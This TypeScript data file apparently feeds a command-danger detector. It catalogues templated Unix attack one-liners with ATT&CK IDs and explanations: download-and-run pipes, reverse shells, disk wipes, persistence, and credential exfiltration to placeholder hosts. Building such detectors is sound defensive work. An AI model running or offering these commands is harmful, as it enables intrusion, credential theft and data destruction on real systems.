import type { Cat, Danger, Shell } from './types.js';

function d(cat: Cat, sh: Shell, tech: string, needle: string, t: string, what: string): Danger {
  return { cat, sh, tech, needle, t, what };
}

/** Dangerous Linux and macOS commands. See `commands.ts`. */
export const UNIX_DANGERS: readonly Danger[] = [
  // download and execute
  d('download', 'bash', 'T1059.004', '| bash', 'curl -fsSL «url» | bash', 'downloads a script from «host» and pipes it straight into bash, so whatever the server sends runs with your privileges'),
  d('download', 'bash', 'T1059.004', '| sudo sh', 'curl -s «url» | sudo sh', 'fetches a remote script and runs it as root through sh without saving or inspecting it'),
  d('download', 'bash', 'T1059.004', 'wget -qO-', 'wget -qO- «url» | bash', 'makes wget write the download to stdout (-O-) quietly (-q) and feeds it to bash'),
  d('download', 'bash', 'T1059.004', '| sh', 'wget -O - «url» | sh', 'streams a remote script into sh; nothing is written to disk, so nothing can be reviewed afterwards'),
  d('download', 'bash', 'T1059.004', 'bash <(curl', 'bash <(curl -sL «url»)', 'uses process substitution to hand the downloaded script to bash as if it were a local file'),
  d('download', 'bash', 'T1059.004', 'sh -c "$(curl', 'sh -c "$(curl -fsSL «url»)"', 'substitutes the body of a remote script into an sh -c argument and executes it'),
  d('download', 'bash', 'T1105', 'chmod +x /tmp/', 'curl -sL «exeurl» -o /tmp/«bin» && chmod +x /tmp/«bin» && /tmp/«bin»', 'saves a remote binary to /tmp, marks it executable and starts it'),
  d('download', 'bash', 'T1105', '/dev/shm/', 'wget -q http://«ip»/«bin» -O /dev/shm/.«bin» && chmod 755 /dev/shm/.«bin» && /dev/shm/.«bin» &', 'drops a hidden binary into the memory-backed /dev/shm and runs it in the background'),
  d('download', 'bash', 'T1059.006', 'exec(u.urlopen', 'python3 -c "import urllib.request as u; exec(u.urlopen(\'«pyurl»\').read())"', 'has Python fetch code from «host» and exec() it in the interpreter'),
  d('download', 'bash', 'T1059.004', '| bash -s', 'curl -s http://«ip»:«port»/«bin».sh | bash -s -- --silent', 'pipes a script served from a bare IP and port into bash, passing --silent to the script'),
  // reverse and bind shells
  d('revshell', 'bash', 'T1059.004', '/dev/tcp/', 'bash -i >& /dev/tcp/«ip»/«port» 0>&1', 'starts an interactive bash (-i) whose stdout and stderr go to a TCP connection to «ip»:«port» (>&), and reads its stdin from the same socket (0>&1)'),
  d('revshell', 'bash', 'T1059.004', '/dev/tcp/', "/bin/bash -c 'bash -i >& /dev/tcp/«ip»/«port» 0>&1'", 'wraps the /dev/tcp reverse shell in bash -c so it also works when the current shell is not bash'),
  d('revshell', 'bash', 'T1059.004', 'nc -e', 'nc -e /bin/sh «ip» «port»', 'connects netcat to «ip»:«port» and, with -e, hands the connection to /bin/sh'),
  d('revshell', 'bash', 'T1059.004', '-e /bin/bash', 'nc «ip» «port» -e /bin/bash', 'uses the -e option of traditional netcat to run bash over an outbound connection'),
  d('revshell', 'bash', 'T1059.004', 'mkfifo', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc «ip» «port» > /tmp/f', 'builds a named pipe so a netcat without -e can still shuttle a shell between /tmp/f and the remote listener'),
  d('revshell', 'bash', 'T1059.004', 'EXEC:/bin/bash', 'socat TCP:«ip»:«port» EXEC:/bin/bash,pty,stderr,setsid', 'connects socat to «ip»:«port» and attaches a full pty bash session to it'),
  d('revshell', 'bash', 'T1059.004', 'TCP-LISTEN', 'socat TCP-LISTEN:«port»,reuseaddr,fork EXEC:/bin/sh', 'opens a bind shell: anyone who connects to port «port» gets /bin/sh'),
  d('revshell', 'bash', 'T1059.004', 'nc -lvnp', 'nc -lvnp «port» -e /bin/bash', 'listens on port «port» and gives every client a bash shell'),
  d('revshell', 'bash', 'T1059.006', 'socket.socket', 'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("«ip»",«port»));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'', 'opens a socket to «ip»:«port», duplicates it onto stdin, stdout and stderr with dup2, then starts /bin/sh'),
  d('revshell', 'bash', 'T1059', 'PF_INET', 'perl -e \'use Socket;$i="«ip»";$p=«port»;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'', 'is the classic Perl one-liner: it connects a socket to «ip» and re-opens the standard streams on it before exec-ing sh'),
  d('revshell', 'bash', 'T1059', 'fsockopen', 'php -r \'$sock=fsockopen("«ip»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");\'', 'opens a socket with fsockopen (file descriptor 3) and runs sh with all three streams redirected to it'),
  d('revshell', 'bash', 'T1059', 'TCPSocket.open', 'ruby -rsocket -e \'f=TCPSocket.open("«ip»",«port»).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'', 'does the same in Ruby: a TCPSocket to «ip» whose descriptor becomes the shell\'s stdin, stdout and stderr'),
  d('revshell', 'bash', 'T1059.004', 'exec 196<>', '0<&196;exec 196<>/dev/tcp/«ip»/«port»; sh <&196 >&196 2>&196', 'opens file descriptor 196 as a TCP connection and runs sh on it'),
  // destructive
  d('destroy', 'bash', 'T1485', 'rm -rf /', 'sudo rm -rf / --no-preserve-root', 'recursively deletes everything from the root directory down; --no-preserve-root switches off the one safeguard'),
  d('destroy', 'bash', 'T1485', 'rm -rf ~', 'rm -rf ~', 'deletes the whole home directory, including SSH keys, dotfiles and documents, without prompting'),
  d('destroy', 'bash', 'T1485', 'rm -rf /*', 'sudo rm -rf /*', 'expands to every top-level directory and deletes them all, sidestepping the --preserve-root check'),
  d('destroy', 'bash', 'T1561', 'mkfs', 'sudo mkfs.ext4 /dev/«dev»', 'writes a new, empty ext4 file system over the device /dev/«dev», destroying what was on it'),
  d('destroy', 'bash', 'T1561', 'of=/dev/', 'sudo dd if=/dev/zero of=/dev/«dev» bs=1M', 'overwrites the raw disk /dev/«dev» with zeros, partition table first'),
  d('destroy', 'bash', 'T1561', 'of=/dev/', 'dd if=/dev/urandom of=/dev/«dev» bs=4M status=progress', 'fills the block device /dev/«dev» with random data until it is full'),
  d('destroy', 'bash', 'T1499', ':|:&', ':(){ :|:& };:', 'defines a function called ":" that pipes itself into itself in the background and calls it, so processes multiply until the system stalls'),
  d('destroy', 'bash', 'T1222', 'chmod -R 777 /', 'sudo chmod -R 777 /', 'makes every file on the system world-writable, which breaks sudo, ssh and most security checks'),
  d('destroy', 'bash', 'T1561', 'shred', 'sudo shred -vzn 3 /dev/«dev»', 'overwrites /dev/«dev» three times (-n 3) and then with zeros (-z), so the data cannot be recovered'),
  d('destroy', 'bash', 'T1485', 'rm -rf /etc', 'sudo rm -rf /etc /var/lib', 'removes system configuration and package state, leaving a machine that will not boot cleanly'),
  d('destroy', 'bash', 'T1561', '> /dev/', 'cat /dev/zero > /dev/«dev»', 'streams zeros over the disk device through a shell redirection'),
  // persistence
  d('persist', 'bash', 'T1053.003', '| crontab -', '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL «url» | sh") | crontab -', 'appends a job to the user\'s crontab that downloads and runs a remote script every five minutes'),
  d('persist', 'bash', 'T1053.003', '/etc/crontab', 'echo "* * * * * root bash -i >& /dev/tcp/«ip»/«port» 0>&1" >> /etc/crontab', 'adds a root cron entry that reconnects a reverse shell to «ip» every minute'),
  d('persist', 'bash', 'T1546.004', '.bashrc', "echo 'curl -s «url» | bash' >> ~/.bashrc", 'appends a download-and-run line to ~/.bashrc, so it runs every time an interactive shell starts'),
  d('persist', 'bash', 'T1098.004', 'authorized_keys', 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI«key» «user»@«host»" >> ~/.ssh/authorized_keys', 'adds an outside public key to authorized_keys, granting its owner SSH access to this account'),
  d('persist', 'bash', 'T1098.004', 'authorized_keys', 'mkdir -p /root/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ«key» support" >> /root/.ssh/authorized_keys', 'plants a key in root\'s authorized_keys so the key holder can log in as root'),
  d('persist', 'bash', 'T1543.002', 'systemctl enable', "cat > /etc/systemd/system/«svc»-helper.service <<'EOF'\n[Unit]\nDescription=«svc» helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/«ip»/«port» 0>&1'\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable --now «svc»-helper", 'installs a systemd unit whose ExecStart is a reverse shell and enables it, so it restarts forever and survives reboots'),
  d('persist', 'bash', 'T1037', 'rc.local', "echo '/dev/shm/.«bin» &' >> /etc/rc.local && chmod +x /etc/rc.local", 'adds a hidden binary to rc.local so it starts at every boot'),
  d('persist', 'bash', 'T1136.001', 'useradd -o -u 0', 'sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash «user»2 && echo "«user»2:Passw0rd!" | sudo chpasswd', 'creates a second account with UID 0 - a root account under another name - and gives it a known password'),
  d('persist', 'bash', 'T1548.003', 'NOPASSWD', 'echo "«user» ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers', 'grants «user» password-less root through sudo by appending to /etc/sudoers'),
  // credential access
  d('creds', 'bash', 'T1003.008', '/etc/shadow', 'sudo cat /etc/shadow', 'prints the password hashes of every local account'),
  d('creds', 'bash', 'T1003.008', '/etc/shadow', 'sudo cat /etc/shadow | nc «ip» «port»', 'sends the local password hashes to «ip» over netcat'),
  d('creds', 'bash', 'T1552.001', '.aws/credentials', 'cat ~/.aws/credentials', 'prints the AWS access keys stored for the CLI'),
  d('creds', 'bash', 'T1552.001', '.aws/credentials', 'curl -s -X POST --data-binary @$HOME/.aws/credentials «upurl»', 'uploads the AWS credentials file to «host»'),
  d('creds', 'bash', 'T1552.004', '~/.ssh', 'tar czf - ~/.ssh | curl -s -X POST --data-binary @- «upurl»', 'packs the whole ~/.ssh directory, private keys included, and posts it to a remote server'),
  d('creds', 'bash', 'T1552.004', 'id_rsa', 'find / -name id_rsa 2>/dev/null -exec cat {} \\;', 'searches the whole file system for SSH private keys and prints each one'),
  d('creds', 'bash', 'T1555.003', 'Login Data', 'cp ~/.config/google-chrome/Default/Login\\ Data /tmp/ld && curl -s -F f=@/tmp/ld «upurl»', 'copies Chrome\'s saved-password database and uploads it'),
  d('creds', 'bash', 'T1552.001', 'printenv', "printenv | grep -iE 'key|secret|token' | curl -s -d @- «upurl»", 'collects every environment variable that looks like a secret and posts them to «host»'),
  // defense evasion
  d('evasion', 'bash', 'T1562.004', 'ufw disable', 'sudo ufw disable', 'turns off the host firewall entirely'),
  d('evasion', 'bash', 'T1562.001', 'setenforce 0', 'sudo setenforce 0', 'switches SELinux to permissive mode, so its policies stop being enforced'),
  d('evasion', 'bash', 'T1562.012', 'auditctl -D', 'sudo auditctl -D', 'deletes every loaded audit rule, so auditd stops recording'),
  d('evasion', 'bash', 'T1070.003', 'history -c', 'history -c && rm -f ~/.bash_history', 'clears the shell history in memory and deletes the history file'),
  d('evasion', 'bash', 'T1070.003', 'HISTFILE', 'unset HISTFILE; export HISTSIZE=0', 'stops bash from recording the commands that follow'),
  d('evasion', 'bash', 'T1027', 'base64 -d | bash', 'echo «b64» | base64 -d | bash', 'decodes a base64 blob and executes the result, hiding the real command from a casual reader'),
  d('evasion', 'bash', 'T1562.004', 'iptables -F', 'sudo iptables -F && sudo iptables -P INPUT ACCEPT', 'flushes all firewall rules and sets the default policy to accept everything'),
  d('evasion', 'bash', 'T1070.002', 'rm -rf /var/log', 'sudo rm -rf /var/log/*', 'deletes the system logs'),
  d('evasion', 'bash', 'T1562.001', 'systemctl stop auditd', 'sudo systemctl stop auditd && sudo systemctl disable auditd', 'stops the audit daemon and keeps it from starting again'),
  // containers and cloud
  d('cloud', 'bash', 'T1611', '--privileged', 'docker run --rm -it --privileged -v /:/host alpine chroot /host sh', 'starts a privileged container with the host\'s root file system mounted at /host and chroots into it - a root shell on the host'),
  d('cloud', 'bash', 'T1611', 'nsenter', 'docker run -it --rm --pid=host --privileged alpine nsenter -t 1 -m -u -n -i sh', 'enters the namespaces of the host\'s PID 1 from a privileged container'),
  d('cloud', 'bash', 'T1552.005', '169.254.169.254', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/«role»', 'asks the EC2 metadata service for the temporary AWS keys of the instance role «role»'),
  d('cloud', 'bash', 'T1552.005', '169.254.169.254', 'curl -s -H "Metadata-Flavor: Google" http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', 'fetches an OAuth token for the VM\'s service account from the GCP metadata server'),
  d('cloud', 'bash', 'T1552.005', '169.254.169.254', 'curl -s -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"', 'requests a managed-identity token for Azure Resource Manager from the instance metadata endpoint'),
  d('cloud', 'bash', 'T1609', 'kubectl exec', 'kubectl exec -it -n kube-system «pod» -- /bin/sh', 'opens a shell inside the system pod «pod» in kube-system'),
  d('cloud', 'bash', 'T1098', 'cluster-admin', 'kubectl create clusterrolebinding «user»-admin --clusterrole=cluster-admin --serviceaccount=default:default', 'gives the default service account full cluster-admin rights'),
  d('cloud', 'bash', 'T1611', 'docker.sock', 'docker run -it --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh', 'mounts the host\'s Docker socket into a container, which gives that container control of the host'),
];

